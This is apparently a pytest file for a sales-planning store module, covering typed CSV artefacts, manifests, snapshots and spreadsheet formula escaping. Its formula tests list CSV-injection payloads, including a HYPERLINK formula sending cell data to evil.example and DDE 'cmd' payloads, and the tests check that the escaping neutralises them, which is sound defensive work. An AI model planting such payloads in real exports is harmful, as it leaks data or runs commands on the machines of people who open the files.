"""planning.store: the one place that knows where artefacts, manifests and snapshots live."""

from __future__ import annotations

import json
from datetime import date

import pandas as pd
import pytest

from planning import contracts, store
from planning.errors import ArtifactInvalid, ArtifactMissing


# ------------------------------------------------------------------------------------------------ artefacts
def test_write_then_read_keeps_bytes_and_types(tmp_path):
    region = tmp_path / "east"
    reps = pd.DataFrame(
        {
            "rep_id": ["007", "010"],
            "team": ["east-1", "east-1"],
            "month": ["2027-01", "2027-01"],
            "target": [1.5, 2],
        }
    )
    path = store.write_artifact(region, "targets_rep", reps, step="02_goals")
    assert path == region / "artifacts" / "targets_rep.csv"
    assert path.read_text() == (
        "rep_id,team,month,target\n007,east-1,2027-01,1.500000\n010,east-1,2027-01,2.000000\n"
    )
    back = store.read_artifact(region, "targets_rep")
    assert back["rep_id"].tolist() == ["007", "010"]  # an id keeps its zeros
    assert back["month"].tolist() == ["2027-01", "2027-01"]  # a month stays text
    assert str(back["target"].dtype) == "float64"
    assert not list(region.glob("artifacts/.*")), "no temp file left behind"


def test_an_empty_artefact_still_has_typed_columns(tmp_path):
    store.write_artifact(
        tmp_path, "hiring_plan", pd.DataFrame(columns=list(contracts.required_columns("hiring_plan")))
    )
    back = store.read_artifact(tmp_path, "hiring_plan")
    assert back.empty and str(back["hires"].dtype) == "int64" and str(back["start_month"].dtype) == "str"


def test_int_and_bool_columns_are_cast_and_checked(tmp_path):
    folder = tmp_path / "artifacts"
    folder.mkdir()
    (folder / "seasonality.csv").write_text("month_of_year,index\n1.0,1.1\n2.0,0.9\n")
    assert store.read_artifact(tmp_path, "seasonality")["month_of_year"].tolist() == [1, 2]
    (folder / "seasonality.csv").write_text("month_of_year,index\n1,1.1\n2,high\n")
    with pytest.raises(
        ArtifactInvalid, match=r"seasonality\.csv: line 3, column 'index': 'high'; expected a number"
    ):
        store.read_artifact(tmp_path, "seasonality")
    header = ",".join(contracts.required_columns("goals"))
    (folder / "goals.csv").write_text(f"{header}\nrevenue,revenue,1,2027-12-31,True,True,maybe,True,True\n")
    with pytest.raises(ArtifactInvalid, match=r"column 'achievable': 'maybe'; expected True or False"):
        store.read_artifact(tmp_path, "goals")


def test_the_contract_is_enforced_on_write(tmp_path):
    with pytest.raises(ArtifactInvalid, match="lacks contract columns"):
        store.write_artifact(tmp_path, "seasonality", pd.DataFrame({"month_of_year": [1]}))
    with pytest.raises(ArtifactInvalid, match="belongs to step 02_goals"):
        store.write_artifact(tmp_path, "targets", pd.DataFrame(), step="05_review")
    assert not (tmp_path / "artifacts" / "seasonality.csv").exists()


def test_a_missing_artefact_names_the_step_to_run(tmp_path):
    with pytest.raises(
        ArtifactMissing, match=r"artefact 'targets' not found; run step 02_goals for region 'east'"
    ):
        store.read_artifact(tmp_path / "east", "targets")
    assert store.read_optional(tmp_path / "east", "targets") is None
    assert not store.has_artifacts(tmp_path / "east", "targets")


def test_remove_step_outputs_deletes_only_that_steps_artefacts(tmp_path):
    store.write_artifact(tmp_path, "seasonality", pd.DataFrame({"month_of_year": [1], "index": [1.0]}))
    store.write_artifact(
        tmp_path, "incentive_summary", pd.DataFrame({"metric": ["x"], "value": [1.0], "unit": [""]})
    )
    store.remove_step_outputs(tmp_path, "04_resources")
    assert store.has_artifacts(tmp_path, "seasonality") and not store.has_artifacts(
        tmp_path, "incentive_summary"
    )


# ------------------------------------------------------------------------------------------------ snapshots
def _snapshot(root, name, status="complete", plan_year=2027):
    d = root / name
    d.mkdir(parents=True)
    store.write_manifest(d, {"status": status, "regions": {"east": {"params": {"plan_year": plan_year}}}})
    return d


def test_manifests_round_trip_atomically(tmp_path):
    d = _snapshot(tmp_path, "2026-09-30")
    assert store.read_manifest(d)["status"] == "complete" and store.is_snapshot(d)
    assert json.loads((d / store.MANIFEST).read_text(encoding="utf-8"))["regions"]["east"]
    assert [p.name for p in d.iterdir()] == [store.MANIFEST]
    (d / store.MANIFEST).write_text("{not json")
    assert store.read_manifest(d) is None
    assert store.read_manifest(tmp_path / "nowhere") is None


def test_snapshots_lists_complete_dated_folders_oldest_first(tmp_path):
    _snapshot(tmp_path, "2026-09-30")
    _snapshot(tmp_path, "2026-03-31")
    _snapshot(tmp_path, "2026-06-30", status="incomplete")
    _snapshot(tmp_path, ".2026-12-31.tmp-1-abc")  # a run in progress
    (tmp_path / "2026-01-31").mkdir()  # no manifest
    (tmp_path / "notes").mkdir()
    assert [s.as_of for s in store.snapshots(tmp_path)] == [date(2026, 3, 31), date(2026, 9, 30)]
    assert [s.as_of for s in store.snapshots(tmp_path, before=date(2026, 9, 30))] == [date(2026, 3, 31)]
    every = store.snapshots(tmp_path, complete=False)
    assert [s.path.name for s in every] == ["2026-03-31", "2026-06-30", "2026-09-30"]
    assert every[0].plan_year("east") == 2027 and every[0].plan_year("west") is None
    assert store.snapshots(tmp_path / "missing") == []


def test_paths_between_snapshot_region_and_root(tmp_path):
    snap = store.snapshot_dir(tmp_path, date(2026, 9, 30))
    assert snap == tmp_path / "2026-09-30" == store.snapshot_dir(tmp_path, "2026-09-30")
    assert store.snapshot_root(snap / "east") == tmp_path.resolve()
    assert store.artifact_path(snap / "east", "targets") == snap / "east" / "artifacts" / "targets.csv"


def test_an_undeclared_artefact_is_refused_and_named(tmp_path):
    with pytest.raises(
        ArtifactInvalid, match=r"artefact 'scratch' is not declared in planning/contracts\.py"
    ):
        store.write_artifact(tmp_path, "scratch", pd.DataFrame({"a": [1]}))
    with pytest.raises(ArtifactMissing, match=r"artefact 'scratch' not found \(and not declared"):
        store.read_artifact(tmp_path, "scratch")


# ------------------------------------------------------------------------------------------------ formulas
# Issue 18 case 7: text a spreadsheet would run as a formula (OWASP "CSV Injection") is neutralised in every CSV
# the workbook writes; numbers are never touched.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.adversarial
@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_is_quoted_in_the_file_and_read_back_as_written(tmp_path, text):
    swot = pd.DataFrame({"quadrant": ["S"], "item": [text], "source": ["params"], "evidence": [text]})
    path = store.write_artifact(tmp_path, "swot", swot, step="01_market_analysis")
    cells = pd.read_csv(path, dtype=str, keep_default_na=False)  # as a spreadsheet sees the cells
    for column in ("item", "evidence"):
        assert cells[column][0].startswith("'"), cells[column][0]
        assert cells[column][0][1:] == text.replace("\r", "\n")
    assert len(cells) == 1, "a carriage return must not split the row"
    back = store.read_artifact(tmp_path, "swot")
    assert back["item"][0] == back["evidence"][0] == text.replace("\r", "\n")


@pytest.mark.adversarial
def test_numbers_plain_text_and_numeric_text_are_left_as_they_are(tmp_path):
    competitors = pd.DataFrame(
        {
            "competitor": ["Acme", "-5", "+10%", "'=quoted", "-", "a=b"],
            "dimension": ["price"] * 6,
            "score": [-1.5, 2.0, -0.25, 3.0, 4.0, 5.0],
        }
    )
    path = store.write_artifact(tmp_path, "competitors", competitors)
    assert path.read_text().splitlines() == [
        "competitor,dimension,score",
        "Acme,price,-1.500000",  # a negative number is a number
        "-5,price,2.000000",  # a text that is a plain number runs nothing in a spreadsheet
        "+10%,price,-0.250000",
        "''=quoted,price,3.000000",  # a quote before a formula gets one more, so reading back is exact
        "'-,price,4.000000",
        "a=b,price,5.000000",
    ]
    back = store.read_artifact(tmp_path, "competitors")
    assert back["competitor"].tolist() == competitors["competitor"].tolist()
    assert back["score"].tolist() == competitors["score"].tolist()


@pytest.mark.adversarial
def test_escaping_leaves_the_callers_frame_alone_and_is_a_no_op_without_formulas():
    frame = pd.DataFrame({"a": ["=1+1", "ok"], "b": [1, -2]})
    out = store.escape_formulas(frame)
    assert out["a"].tolist() == ["'=1+1", "ok"] and frame["a"].tolist() == ["=1+1", "ok"]
    clean = pd.DataFrame({"a": ["x", None], "b": [-1.0, 2.0], "c": pd.Categorical(["u", "v"])})
    assert store.escape_formulas(clean) is clean
    assert store.escape_formulas(pd.DataFrame({"c": pd.Categorical(["@x"])}))["c"].tolist() == ["'@x"]


@pytest.mark.adversarial
@pytest.mark.parametrize("text", ["=1", "'=1", "''=1", "-x", "'", "''", "'x", "x", "", "\n@x", "-5", "+1e3"])
def test_escape_then_unescape_is_the_identity(text):
    assert store.unescape_formula(store.escape_formula(text)) == text


def test_plan_of_record_is_the_latest_complete_plan_kind_at_or_before_the_date(tmp_path):
    from planning import store as s

    for name, kind, status in [
        ("2026-03-31", None, "complete"),  # an older manifest without a kind: a plan
        ("2026-06-30", "adjusted", "complete"),
        ("2026-08-31", "review", "complete"),
        ("2026-09-15", "plan", "incomplete"),
        ("2026-09-30", "replan", "complete"),
    ]:
        (tmp_path / name).mkdir()
        s.write_manifest(tmp_path / name, {"status": status, **({"kind": kind} if kind else {})})
    assert s.plan_of_record(tmp_path, "2026-03-30") is None
    assert s.plan_of_record(tmp_path, "2026-03-31").path.name == "2026-03-31"
    assert s.plan_of_record(tmp_path, "2026-09-20").path.name == "2026-06-30"
    assert s.plan_of_record(tmp_path, "2026-12-31").path.name == "2026-09-30"
    assert s.kind_of({}) == "plan" and s.kind_of({"kind": "review"}) == "review"


def test_a_repeated_read_is_the_same_frame_and_a_callers_change_stays_its_own(tmp_path):
    """read_artifact keeps what it read (a worker's later steps read the earlier steps' artefacts again); a repeat
    equals a fresh read, a caller's edit does not reach the next reader, and a rewrite is read anew."""
    region = tmp_path / "east"
    reps = pd.DataFrame({"rep_id": ["007"], "team": ["east-1"], "month": ["2027-01"], "target": [1.5]})
    store.write_artifact(region, "targets_rep", reps, step="02_goals")
    first = store.read_artifact(region, "targets_rep")
    first.loc[0, "target"] = -1.0  # a caller edits its frame in place
    first["extra"] = 1
    again = store.read_artifact(region, "targets_rep")
    assert again.equals(store._read_typed(store.artifact_path(region, "targets_rep"),
                                          contracts.ARTIFACTS["targets_rep"], {}))  # fmt: skip
    assert again.loc[0, "target"] == 1.5 and "extra" not in again.columns
    store.write_artifact(region, "targets_rep", reps.assign(target=[2.5]), step="02_goals")  # same size
    assert store.read_artifact(region, "targets_rep").loc[0, "target"] == 2.5


@pytest.mark.adversarial
@pytest.mark.parametrize(
    "lines",
    [
        ["quadrant,item,source,evidence", "S,'=1+1,params,x"],  # a field after a comma
        ["quadrant,item,source,evidence", "'+x,a,params,x"],  # the first field of a row
        ["quadrant,item,source,evidence", 'S,"a, b",params,"\'-x, y"'],  # quoted, after a quoted field
        ["quadrant,item,source,evidence", 'S,"two', "'@lines\",params,x"],  # a line inside a quoted field
        ["quadrant,item,source,evidence", "S,it's,params,don't"],  # apostrophes only: nothing to unescape
        ["quadrant,item,source,evidence", "S,x,params,''=y"],
    ],
)
def test_a_file_without_a_field_starting_with_a_quote_is_not_scanned(tmp_path, lines):
    """`read_artifact` skips the text columns' quote scan when no field of the file starts with a quote
    (`_FIELD_QUOTE`); what it reads is what the full scan gives."""
    path = store.artifact_path(tmp_path, "swot")
    path.parent.mkdir(parents=True)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    dtype = {c: "str" for c, t in contracts.ARTIFACTS["swot"].columns.items() if t in ("str", "date")}
    scanned = store._unescape(pd.read_csv(path, dtype=dtype))
    pd.testing.assert_frame_equal(store.read_artifact(tmp_path, "swot"), scanned)
    starts = any(f.startswith(("'", "\"'")) for line in lines[1:] for f in line.split(","))
    assert bool(store._FIELD_QUOTE.search(path.read_bytes())) == starts


def test_text_columns_are_judged_by_dtype_alone():
    frame = pd.DataFrame(
        {
            "s": ["a"],
            "o": pd.Series([1], dtype=object),
            "c": pd.Categorical(["x"]),
            "i": [1],
            "f": [1.0],
            "b": [True],
            "d": pd.to_datetime(["2027-01-01"]),
            "n": pd.array([1], dtype="Int64"),
            "st": pd.Series(["x"], dtype="string"),
        }
    )
    assert store._text_columns(frame) == ["s", "o", "c", "st"]
